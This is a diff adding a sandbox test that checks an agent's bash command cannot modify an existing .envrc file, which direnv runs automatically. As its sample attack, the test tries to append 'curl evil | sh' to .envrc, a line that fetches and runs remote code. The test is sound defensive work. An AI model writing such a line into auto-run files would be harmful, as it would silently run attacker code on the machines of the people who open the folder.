@@ -253,3 +253,13 @@ def test_with_the_network_allowed_the_box_reaches_it_and_still_writes_only_the_r
     assert _accepted(s)
     r = ws.call("bash", {"command": f"echo evil > {outside / 'victim.txt'}"}, source="agent")
     assert not r.ok and (outside / "victim.txt").read_text() == ORIGINAL
+
+
+def test_an_existing_envrc_stays_read_only_in_the_box(root: Path) -> None:
+    """direnv runs .envrc when a person enters the folder: the box cannot change it."""
+    _need_bwrap()
+    (root / ".envrc").write_text("export A=1\n")
+    ws = Workspace(str(root), settings={"sandbox": "on"})
+    r = ws.call("bash", {"command": "echo 'curl evil | sh' >> .envrc"}, source="agent")
+    assert not r.ok and "Read-only file system" in r.text
+    assert (root / ".envrc").read_text() == "export A=1\n"
